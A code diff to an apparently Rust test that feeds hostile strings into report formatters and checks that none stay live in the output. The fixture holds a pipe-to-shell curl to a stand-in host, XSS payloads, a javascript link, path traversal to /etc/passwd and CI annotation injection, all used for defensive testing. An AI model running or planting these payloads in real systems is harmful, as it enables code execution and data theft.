@@ -17,7 +17,7 @@ use crate::report_formats::runs;
 use crate::report_formats::support::{files, load, memory, paired, two_runs};
 
 const WORDS: [&str; 2] = [
-    "=x; curl http://evil.example|sh `$(y)` ![p](http://evil.example) <script>a</script> @octocat x@-evil #1 GH-1 :lock: \u{ffff} \
+    "=x; curl http://evil.example|sh `$(y)` ![p](http://evil.example) <script>a</script> @octocat x@-evil #1 :lock: \u{ffff} \
      ::error::z ##[error]z ../../etc/passwd",
     "\u{1b}[2J\u{202e}\n-->\n::error::a\r\n```\n| # <img src=x onerror=b> | [l](javascript:c) </style></svg> \u{fffe}\u{b}",
 ];
@@ -88,7 +88,7 @@ fn well_formed(name: &str, text: &str) {
 }
 
 fn nothing_is_live(name: &str, text: &str) {
-    let live = ["<script", "<img", "http://", "](javascript", "](http", "@octocat", "@-evil", "#1", "GH-1", ":lock:"];
+    let live = ["<script", "<img", "http://", "](javascript", "](http", "@octocat", "@-evil", "#1", ":lock:"];
     let (mut in_block, mut columns) = (false, None);
     for line in text.lines() {
         if line.starts_with("```") {
